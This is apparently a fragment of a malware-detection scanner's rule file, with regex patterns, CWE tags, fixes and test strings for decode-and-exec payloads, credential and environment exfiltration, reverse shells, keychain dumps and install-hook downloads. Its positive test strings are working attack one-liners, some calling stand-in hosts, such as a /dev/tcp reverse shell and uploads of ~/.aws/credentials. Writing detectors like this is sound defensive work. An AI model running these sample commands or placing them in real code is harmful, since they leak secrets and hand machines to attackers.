EG("php-egress-hardcoded-host", "PHP network call to a hard-coded host",
   r"(?:\b(?:file_get_contents|fopen|curl_init|fsockopen|get_headers|stream_socket_client)\([ \t]*[\"'](?:https?|ssl|tcp|tls)://"
   r"|\bfsockopen\([ \t]*[\"']|\bCURLOPT_URL[ \t]*,[ \t]*[\"']https?://|->(?:get|post|request)\([ \t]*(?:[\"'](?:GET|POST)[\"'][ \t]*,[ \t]*)?[\"']https?://)" + HOST,
   ["http", "curl", "sock", "tcp", "tls"], ["php"],
   ['$ch = curl_init("https://gate.phpstats.org/track");', '$r = file_get_contents("http://198.51.100.9/cmd.txt");'],
   ['$r = file_get_contents(__DIR__ . "/data.json");', '$ch = curl_init($endpoint);', '$r = file_get_contents("config.json");'])
EG("c-egress-hardcoded-host", "C/C++ network call to a hard-coded host (libcurl URL, name resolution)",
   r"(?:\bCURLOPT_URL[ \t]*,[ \t]*\"(?:https?|ftp)://|\b(?:getaddrinfo|gethostbyname|inet_addr)\([ \t]*\"|\binet_pton\([ \t]*AF_INET6?[ \t]*,[ \t]*\")" + HOST,
   ["CURLOPT_URL", "getaddrinfo", "gethostbyname", "inet_"], CC,
   ['curl_easy_setopt(curl, CURLOPT_URL, "https://upd.firmware-cdn.net/v2/check");', 'getaddrinfo("c2.blackbox-relay.com", "443", &hints, &res);'],
   ['curl_easy_setopt(curl, CURLOPT_URL, url);', 'getaddrinfo("localhost", "8080", &hints, &res);'])
EG("shell-egress-hardcoded-host", "curl/wget/nc to a hard-coded host in scripts, Dockerfiles and CI files",
   r"(?:\b(?:curl|wget)\b[^\n|;]{0,200}(?:https?|ftp)://|\b(?:nc|ncat|netcat)[ \t]+(?:-[A-Za-z]+[ \t]+)*)" + HOST,
   ["curl", "wget", "nc"], None,
   [("curl -fsSL -X POST https://beacon.shellmetrics.io/ping -d @/tmp/report", "deploy.sh"), ("RUN wget -q https://dl.toolhub.dev/bin/tool -O /usr/local/bin/tool", "Dockerfile")],
   [("curl -fsS http://localhost:8080/healthz", "check.sh"), ('curl -fsS "$API_URL/v1/items"', "check.sh")],
   paths=[r"(?:\.(?:sh|bash|zsh|ya?ml|mk|ps1)|(?:^|/)(?:Dockerfile|Containerfile)[^/]*|(?:^|/)(?:GNU)?[Mm]akefile)$"])
R(B, "py-decode-exec", "Python exec/eval of decoded or decompressed data", "critical", "CWE-506",
  r"\b(?:exec|eval)\([ \t]*(?:compile\([ \t]*)?(?:base64\.(?:b64decode|b32decode|b16decode|b85decode|a85decode|urlsafe_b64decode|decodebytes)|codecs\.decode|zlib\.decompress|gzip\.decompress|bz2\.decompress|lzma\.decompress|marshal\.loads|bytes\.fromhex|binascii\.(?:unhexlify|a2b_base64))\(",
  ["exec", "eval"], ["python"], "Remove the hidden payload; code must be reviewable as source, never decoded at run time.",
  ['exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))', 'exec(zlib.decompress(blob))'],
  ['data = base64.b64decode(encoded)', 'exec(compile(source, path, "exec"))'])
R(B, "js-decode-exec", "JavaScript eval/Function of decoded data", "critical", "CWE-506",
  r"\b(?:eval|Function)\([ \t]*(?:atob\(|Buffer\.from\(|unescape\(|decodeURIComponent\(escape\(|String\.fromCharCode\()|\bnew Function\([ \t]*(?:atob\(|Buffer\.from\()",
  ["eval", "Function"], JS, "Remove the hidden payload; code must be reviewable as source, never decoded at run time.",
  ["eval(Buffer.from(payload, 'base64').toString());", "eval(atob('Y29uc29sZS5sb2coMSk='));", "new Function(atob(blob))();"],
  ["const text = Buffer.from(payload, 'base64').toString();", "const fn = new Function('a', 'b', 'return a + b');"])
R(B, "php-decode-exec", "PHP eval of decoded or inflated data", "critical", "CWE-506",
  r"\b(?:eval|assert)\([ \t]*(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|convert_uudecode|strrev)\(", ["eval", "assert"], ["php"],
  "Remove the hidden payload; this is the shape of a web shell.", ['eval(base64_decode($payload));', 'eval(gzinflate(base64_decode("S0lNTgQA")));'],
  ['$json = base64_decode($payload);'])
R(B, "rb-decode-exec", "Ruby eval of decoded data", "critical", "CWE-506",
  r"\b(?:eval|instance_eval)\([ \t]*(?:Base64\.(?:decode64|strict_decode64|urlsafe_decode64)|Zlib::Inflate\.inflate|\[[^\]\n]{0,60}\]\.pack\()", ["eval"], ["ruby"],
  "Remove the hidden payload; code must be reviewable as source.", ['eval(Base64.decode64(blob))'], ['data = Base64.decode64(blob)'])
R(B, "java-decode-exec", "Java class defined from decoded bytes", "critical", "CWE-506",
  r"\bdefineClass\([^\n]{0,80}Base64\.(?:getDecoder|getMimeDecoder)\(\)\.decode\(", ["defineClass"], ["java"],
  "Remove the hidden payload; classes must come from reviewed sources.", ['Class<?> c = defineClass(name, Base64.getDecoder().decode(b64), 0, len);'],
  ['byte[] raw = Base64.getDecoder().decode(b64);'])
R(B, "shell-decode-exec", "base64-decoded data piped into a shell", "critical", "CWE-506",
  r"\bbase64[ \t]+(?:-d|--decode|-D)\b[^\n|]{0,80}\|[ \t]*(?:sudo[ \t]+)?(?:ba|z|da|k)?sh\b", ["base64"], None,
  "Remove the hidden payload; scripts must be reviewable as written.",
  [("echo ZWNobyBwd25lZAo= | base64 -d | sh", "setup.sh"), ("RUN echo $BLOB | base64 --decode | bash", "Dockerfile")],
  [("echo $CERT | base64 -d > /etc/ssl/ca.pem", "setup.sh")])
R(B, "powershell-encoded-command", "PowerShell with an encoded command", "high", "CWE-506",
  r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}[ \t\"'](?:-|/)(?:e|ec|en|enc|enco|encod|encode|encoded|encodedcommand)[\"']?[ \t,]{1,3}[\"']?[A-Za-z0-9+/=]{20,}", ["powershell", "pwsh"], None,
  "Remove the encoded command; scripts must be reviewable as written.",
  [("powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "run.ps1"),
   ('subprocess.call(["powershell", "-ep", "bypass", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"])', "x.py")],
  [("powershell -File build.ps1 -Configuration Release", "build.ps1")])
R(B, "credential-file-read-send", "credential file (~/.ssh, ~/.aws, .netrc, docker or kube config, keychain) read near a network send", "critical", "CWE-522",
  r"(?:\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws/credentials|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|find-generic-password|find-internet-password|Login Data|Local State)[\s\S]{0,300}(?:requests\.(?:post|put)|urlopen|httpx\.post|\bfetch\(|axios\.post|https?\.request|http\.Post|\bcurl\b|\bwget\b|sendall|\.send\(|UploadString|PostAsync|Net::HTTP\.post|socket\.connect|curl_easy_perform|CURLOPT_POST)|\bcurl\b[^\n]{0,100}[ \t](?:-d|--data(?:-binary)?|-F|-T|--upload-file)[ \t]+[\"']?(?:[a-z]+=)?@?(?:~|\$HOME|\$\{HOME\})/\.(?:aws/credentials|ssh/id_[a-z0-9]+|netrc|git-credentials|docker/config\.json|kube/config)",
  [".ssh/id_", ".aws/credentials", ".netrc", ".git-credentials", ".docker/config.json", ".kube/config", "find-generic-password", "find-internet-password", "Login Data"], None,
  "Remove the code path; nothing in the project should read user credentials and send them off the machine.",
  [('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://paste.dropzone.cc/api", data={"k": key})', "sync.py"),
   ("const c = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\nawait fetch('https://collect.stats-cdn.net', { method: 'POST', body: c });", "postinstall.js"),
   ("curl -s -F f=@$HOME/.aws/credentials https://transfer.filedrop.cc/", "x.sh")],
  [('key_path = os.path.expanduser("~/.ssh/id_rsa.pub")\nprint(key_path)', "show.py"), ('print("see ~/.aws/credentials for the profile")', "doc.py")])
R(B, "env-dump-send", "whole environment serialised near a network send", "critical", "CWE-522",
  r"(?:JSON\.stringify\([ \t]*process\.env[ \t]*\)|\bdict\([ \t]*os\.environ[ \t]*\)|os\.environ\.copy\(\)|json\.dumps\([ \t]*(?:dict\([ \t]*)?os\.environ|\bos\.Environ\(\)|Environment\.GetEnvironmentVariables\(\)|System\.getenv\(\)[ \t]*[;.)]|\bENV\.to_h\b|\$_ENV\b|\b(?:env|printenv)[ \t]*\|)[\s\S]{0,300}(?:requests\.(?:post|put)|urlopen|\bfetch\(|axios\.post|https?\.request|http\.Post|\bcurl\b|\bwget\b|\bnc\b|sendall|\.send\(|PostAsync|Net::HTTP\.post|curl_exec)",
  ["process.env", "os.environ", "os.Environ", "GetEnvironmentVariables", "getenv", "ENV", "$_ENV", "env", "printenv"], None,
  "Remove the code path; sending the environment leaks every secret the process holds.",
  [("const body = JSON.stringify(process.env);\nhttps.request({ host: 'sink.npm-stats.org', method: 'POST' }).end(body);", "index.js"),
   ('blob = json.dumps(dict(os.environ))\nrequests.post("https://c2.pyinfo.dev/e", data=blob)', "setup.py"),
   ("env | curl -s -X POST --data-binary @- https://drop.envbin.cc/u", "ci.sh")],
  [("const port = process.env.PORT || 3000;\nawait fetch('/api/health');", "server.js"), ('cfg = dict(os.environ)\nprint(sorted(cfg))', "show_env.py")])
R(B, "keychain-read", "macOS keychain secret read from a script or program", "high", "CWE-522",
  r"\bsecurity[ \t]+(?:find-(?:generic|internet)-password\b[^\n]{0,120}[ \t]-[wg]\b|dump-keychain\b)", ["security"], None,
  "Read credentials through the application's own keychain entry with user consent, never by shelling out in project code.",
  [("security find-generic-password -s 'Chrome Safe Storage' -w", "grab.sh"), ('out = subprocess.check_output(["sh", "-c", "security dump-keychain -d"])', "x.py")],
  [("# security find-generic-password is documented in man security(1)", "notes.sh")],
  prefilter=r'[ \t]-[wg]\b|\bsecurity[ \t]+dump-keychain\b')
R(B, "npm-install-script-fetch", "package.json install hook that downloads or runs code", "high", "CWE-506",
  r"\"(?:preinstall|install|postinstall|preuninstall|postuninstall|prepare)\"[ \t]*:[ \t]*\"[^\"\n]*(?:\bcurl\b|\bwget\b|\bnode[ \t]+-e\b|\b(?:ba)?sh[ \t]+-c\b|\bpowershell\b|Invoke-WebRequest|\biwr\b|\|[ \t]*(?:ba)?sh\b|https?://)",
  ["install", "prepare"], None, "Remove network and inline-code execution from install hooks; ship built artefacts instead.",
  [('"postinstall": "curl -s https://cdn.pkg-helper.io/i.sh | sh"', "package.json"), ('"preinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\""', "package.json")],
  [('"postinstall": "husky install"', "package.json"), ('"prepare": "tsc -p ."', "package.json"), ('"postinstall": "curl https://x.io | sh"', "README.md")],
  paths=[r"(?:^|/)package\.json$"])
R(B, "setup-py-network", "setup.py that reaches the network or runs decoded code at install time", "high", "CWE-506",
  r"\b(?:urllib\.request\.urlopen|urlopen|urlretrieve|requests\.(?:get|post)|http\.client\.HTTPS?Connection|socket\.socket|exec|eval)\(",
  ["urlopen", "urlretrieve", "requests.", "http.client", "socket", "exec", "eval"], None,
  "Install scripts must be declarative; move downloads to a reviewed build step.",
  [("urllib.request.urlretrieve(URL, '/tmp/helper.bin')", "setup.py"), ("exec(open('payload.txt').read())", "setup.py")],
  [("setup(name='acme', version=read_version(), packages=find_packages())", "setup.py"), ("urllib.request.urlretrieve(URL, dst)", "tools/fetch.py")],
  paths=[r"(?:^|/)setup\.py$"])
R(B, "curl-pipe-shell", "download piped straight into a shell", "high", "CWE-494",
  r"\b(?:curl|wget)\b[^\n|;]{0,200}\|[ \t]*(?:sudo[ \t]+(?:-[A-Za-z]+[ \t]+)*)?(?:ba|z|da|k)?sh\b", ["curl", "wget"], None,
  "Download to a file, verify its checksum or signature, review it, then run it.",
  [("curl -fsSL https://get.toolhub.dev/install.sh | sh", "install.sh"), ("RUN wget -qO- https://dl.cli-kit.io/setup | sudo -E bash", "Dockerfile")],
  [("curl -fsSL -o install.sh https://get.toolhub.dev/install.sh && sha256sum -c install.sh.sha256", "install.sh"), ("curl -s https://api.acme.io/v1 | jq .items", "x.sh"),
   ("Install with `curl -fsSL https://get.toolhub.dev/install.sh | sh`.", "README.md")],
  allow={"paths": [r"(?i)\.(?:md|markdown|rst|adoc|txt)$"]})
R(B, "reverse-shell", "reverse shell to a remote host", "critical", "CWE-506",
  r"/dev/tcp/" + HOST + r"/[0-9]{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,40}[ \t]-[A-Za-z]*e[ \t]+(?:/bin/)?(?:ba)?sh\b|\bpty\.spawn\([ \t]*[\"'](?:/bin/)?(?:ba)?sh[\"']",
  ["/dev/tcp/", "nc", "ncat", "netcat", "pty.spawn"], None, "Remove it: this hands a shell on the machine to a remote host.",
  [("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "x.sh"), ('os.dup2(s.fileno(), 0); pty.spawn("/bin/bash")', "x.py")],
  [("nc -z db.internal 5432", "wait.sh")],
  prefilter=r'''/dev/tcp/([A-Za-z0-9](?:[A-Za-z0-9\-]{0,62}\.)+[A-Za-z0-9\-]{1,63}|\[[0-9A-Fa-f:]+\])/[0-9]{1,5}|[ \t]-[A-Za-z]*e[ \t]+(?:/bin/)?(?:ba)?sh\b|\bpty\.spawn\([ \t]*[\"'](?:/bin/)?(?:ba)?sh[\"']''')
R(B, "js-obfuscator-names", "javascript-obfuscator style _0x identifiers (hidden code)", "medium", "CWE-506",
  r"\b(?:var|const|let|function)[ \t]+_0x[a-f0-9]{4,6}\b", ["_0x"], JS, "Replace obfuscated code with its reviewed source.",
  ["var _0x3f2a=['\\x72\\x65\\x71\\x75\\x69\\x72\\x65'];(function(a){return a;})(_0x3f2a[0]);"], ["var a=function(b){return b*2};const c=0x1f;"],
  prefilter=r'_0x[a-f0-9]{4,6}\b')
